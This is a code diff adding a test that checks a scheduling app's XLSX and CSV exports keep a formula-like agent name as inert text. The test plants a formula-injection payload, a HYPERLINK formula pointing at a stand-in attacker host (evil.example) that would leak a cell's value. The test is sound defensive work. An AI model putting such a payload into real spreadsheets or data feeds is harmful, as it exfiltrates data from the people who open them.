@@ -146,3 +146,35 @@ def test_calendar_urls_are_revoked_and_rotated(client, tokens):
     assert client.delete("/api/v1/me/calendar-token", headers=agent).status_code == 204
     assert client.get(second).status_code == 404
     assert client.get("/ical/never-issued.ics").status_code == 404
+
+
+def test_an_agent_named_like_a_formula_stays_text_in_every_export(
+    client, tokens, spec_example_dir, tmp_path
+):
+    planner = bearer(tokens["planner"])
+    name = '=HYPERLINK("https://evil.example/?d="&A1,"Open payslip")'
+    agents = (spec_example_dir / "agents.csv").read_text(encoding="utf-8")
+    quoted = '"' + name.replace('"', '""') + '"'
+    agents = agents.replace("A0001,Agent 0001,", f"A0001,{quoted},", 1)
+    folder = tmp_path / "hostile"
+    folder.mkdir()
+    for path in spec_example_dir.iterdir():
+        (folder / path.name).write_bytes(path.read_bytes())
+    (folder / "agents.csv").write_text(agents, encoding="utf-8")
+    version_id = solved_draft(client, planner, folder)["version"]["id"]
+
+    def export(what: str):
+        answer = client.get(f"/api/v1/rosters/{version_id}/{what}", headers=planner)
+        assert answer.status_code == 200, answer.data[:200]
+        return answer
+
+    workbook = load_workbook(io.BytesIO(export("hours.xlsx").data))
+    names = set()
+    for sheet in workbook.worksheets:
+        for row in sheet.iter_rows(2):
+            assert all(cell.data_type != "f" for cell in row), sheet.title
+            names.update(cell.value for cell in row if cell.value == name)
+    assert names == {name}
+    for what in ("hours.csv", "shifts.csv"):
+        rows = csv.DictReader(io.StringIO(export(what).get_data(as_text=True)))
+        assert {r["agent_name"] for r in rows if r["agent_id"] == "A0001"} == {"'" + name}
